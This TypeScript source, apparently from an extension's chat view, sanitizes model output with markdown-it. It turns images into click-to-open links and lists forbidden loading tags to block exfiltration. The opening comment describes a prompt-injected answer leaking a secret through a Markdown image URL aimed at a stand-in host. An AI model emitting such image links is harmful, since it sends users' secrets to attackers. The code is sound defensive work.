// What the chat view may load and how model text becomes HTML. Model text is
// untrusted (a prompt-injected answer is model text): displaying it must
// fetch nothing. The page loads only its own script and styles; images come
// only from the extension's own resources or data: URIs, and a Markdown image
// is rendered as a link the user has to click, never as an <img> that the
// view would fetch on display (`![](https://x/?q=SECRET)` would send the
// secret the moment the answer is shown).
import MarkdownIt from 'markdown-it';

/** Tags the sanitizer drops from rendered model text (anything that loads on display). */
export const FORBIDDEN_TAGS = ['img', 'picture', 'source', 'video', 'audio', 'track', 'iframe', 'object', 'embed', 'svg', 'image', 'link', 'style', 'form'];

/**
 * markdownRenderer renders model text: raw HTML off, and an image becomes a
 * plain link labelled as an image (the user decides whether to open it).
 */
export function markdownRenderer(): MarkdownIt {
  const md = new MarkdownIt({ html: false, linkify: true, breaks: false });
  md.renderer.rules.image = (tokens, idx, _options, _env, self) => {
    const token = tokens[idx];
    const alt = self.renderInlineAsText(token.children ?? [], _options, _env);
    const label = `image: ${alt || 'untitled'}`;
    const src = token.attrGet('src') ?? '';
    // markdown-it already normalized src and dropped unsafe schemes
    // (javascript:, vbscript:, file:, most data:); an empty src is text only.
    if (!src) return md.utils.escapeHtml(`[${label}]`);
    return `<a href="${md.utils.escapeHtml(src)}" title="${md.utils.escapeHtml('Not loaded: ' + src)}">${md.utils.escapeHtml(`[${label}]`)}</a>`;
  };
  return md;
}
